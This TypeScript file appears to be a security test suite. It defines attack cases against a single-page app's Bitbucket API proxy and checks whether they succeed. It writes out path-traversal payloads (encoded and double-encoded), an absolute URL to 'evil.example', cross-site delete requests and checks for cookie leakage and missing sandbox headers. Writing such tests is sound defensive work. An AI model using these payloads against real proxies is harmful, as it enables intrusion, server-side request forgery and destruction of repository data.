import type { Browser } from "../browser.js";
import { signIn } from "../sample.js";
import { type Attack, evil, proxied } from "./attack.js";

function escapesProxy(title: string, path: string): Attack {
  return {
    title,
    needs: "proxy paths are taken as they are",
    app: proxied,
    async succeeds({ sample, victim, sent }) {
      await signIn(sample, victim);
      const before = sent.length;
      await victim.get(`/api/bitbucket${path}`, { "Sec-Fetch-Site": "same-origin" });
      return sent.slice(before).some(({ url }) => isOutside(decodeURIComponent(new URL(url).pathname)));
    },
  };
}

function isOutside(path: string): boolean {
  return !path.startsWith("/2.0/") || path.split(/;[^/]*\/|\//).includes("..");
}

function callsThroughProxy(
  title: string,
  needs: Attack["needs"],
  call: (victim: Browser) => Promise<unknown>,
): Attack {
  return {
    title,
    needs,
    app: proxied,
    async succeeds({ sample, victim, sent }) {
      await signIn(sample, victim);
      const before = sent.length;
      await call(victim);
      return sent.length > before;
    },
  };
}

/** On the proxy of a single-page app. */
export const proxyAttacks: readonly Attack[] = [
  escapesProxy("proxy: an absolute URL", "/https://evil.example/2.0/user"),
  escapesProxy("proxy: up and out", "/2.0/../internal"),
  escapesProxy("proxy: up and out, encoded", "/2.0/%2e%2e/internal"),
  escapesProxy("proxy: up and out, encoded for a reader further on", "/2.0/x%2f..%2f..%2f..%2finternal"),
  escapesProxy("proxy: up and out, with a parameter that some readers drop", "/2.0/%2e%2e;x/internal"),
  callsThroughProxy("proxy: a write from another site", "no origin is judged", (victim) =>
    victim.post("/api/bitbucket/2.0/repositories/acme/website", evil, { delete: true }),
  ),
  callsThroughProxy("proxy: a write that hides its origin", "no origin is judged", (victim) =>
    victim.post("/api/bitbucket/2.0/repositories/acme/website", {}, { delete: true }),
  ),
  callsThroughProxy("proxy: a read embedded in another site", "a read may come from anywhere", (victim) =>
    victim.get("/api/bitbucket/2.0/user", { "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors" }),
  ),
  callsThroughProxy(
    "proxy: a file of a repository as a script of this app, past `script-src 'self'`",
    "the proxy returns code",
    (victim) =>
      victim.get("/api/bitbucket/2.0/repositories/mallory/x/src/main/x.js", {
        "Sec-Fetch-Site": "same-origin",
        "Sec-Fetch-Dest": "script",
      }),
  ),
  {
    title: "proxy: the app's cookies end up at the API",
    needs: "the proxy forwards every header",
    app: proxied,
    async succeeds({ sample, victim, sent }) {
      await signIn(sample, victim);
      await victim.get("/api/bitbucket/2.0/user", { "X-Forwarded-For": "10.0.0.1" });
      return sent.at(-1)?.headers.get("cookie")?.includes("bb_session") ?? false;
    },
  },
  {
    title: "proxy: a page in a repository runs scripts in this app",
    needs: "the proxy returns every header and nothing else",
    app: proxied,
    async succeeds({ sample, victim }) {
      await signIn(sample, victim);
      const { headers } = await victim.get("/api/bitbucket/2.0/user", { "Sec-Fetch-Site": "same-origin" });
      return (
        !headers["content-security-policy"]?.includes("sandbox") ||
        headers["x-content-type-options"] !== "nosniff"
      );
    },
  },
];
